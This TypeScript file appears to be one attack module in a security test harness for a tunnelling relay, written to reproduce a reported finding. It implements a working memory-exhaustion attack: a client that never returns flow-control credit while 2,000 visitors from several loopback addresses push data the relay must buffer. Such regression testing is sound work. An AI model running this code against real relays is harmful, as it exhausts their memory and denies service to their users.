// A logged-in client that registers a tcp proxy, accepts every visitor's stream and never returns
// credit, while its own visitors (from a few loopback addresses) push data as fast as the relay
// takes it: whatever the relay reads from them and cannot send waits on the relay (issue 22,
// finding 9). Bounded at MAX_VISITORS visitors of VISITOR_BYTES each.
import { connect, type Socket } from 'node:net'
import { rawSessionClient } from '../lib/raw-client.js'
import type { Attack } from './attack.js'

const MAX_VISITORS = 2_000
/** What each visitor tries to send. */
const VISITOR_BYTES = 1024 * 1024
const CHUNK = Buffer.alloc(64 * 1024, 0x61)
/** Visitors come from this many loopback addresses (127.0.2.1, ...), so no per-source cap hides the effect. */
const SOURCES = 8
const CONNECT_CONCURRENCY = 100

export const noCredit: Attack = {
  name: 'no-credit',
  what: `a client that never returns credit; ${MAX_VISITORS.toLocaleString('en-US')} visitors each push up to 1 MiB`,
  run: async (target, signal) => {
    const c = await rawSessionClient(target, 'attack-no-credit')
    // Take every stream and its bytes, never consume them: no WINDOW_UPDATE ever goes back.
    c.session.on('stream', (stream) => {
      stream.accept()
      stream.attach({ data () {}, end () {}, drain () {}, close () {} })
    })
    const result = await c.register({ name: 'no-credit', type: 'tcp', remotePort: 0 })
    if (result.ok !== true || result.remotePort === undefined) { c.close(); throw new Error(`proxy refused: ${result.code ?? '?'}`) }
    const port = result.remotePort
    const sockets: Socket[] = []
    let reset = 0
    const visit = async (i: number): Promise<void> => {
      const socket = connect({ host: target.host, port, localAddress: `127.0.2.${1 + (i % SOURCES)}` })
      sockets.push(socket)
      socket.on('error', () => { reset++ })
      await new Promise<void>((resolve) => { socket.once('connect', resolve); socket.once('close', () => { resolve() }) })
      let written = 0
      const pump = (): void => {
        while (written < VISITOR_BYTES && !socket.destroyed) {
          written += CHUNK.length
          if (!socket.write(CHUNK)) { socket.once('drain', pump); return }
        }
      }
      pump()
    }
    let next = 0
    const workers = Array.from({ length: CONNECT_CONCURRENCY }, async () => {
      while (next < MAX_VISITORS && !signal.aborted) await visit(next++)
    })
    await Promise.all(workers)
    await new Promise<void>((resolve) => { if (signal.aborted) resolve(); else signal.addEventListener('abort', () => { resolve() }, { once: true }) })
    const stuck = sockets.reduce((n, s) => n + s.writableLength, 0)
    for (const s of sockets) s.destroy()
    c.close()
    return { sent: sockets.length, unit: 'visitors', note: `${reset} reset; ${(stuck / 1024 / 1024).toFixed(0)} MiB still unsent in the visitors' own buffers` }
  },
}
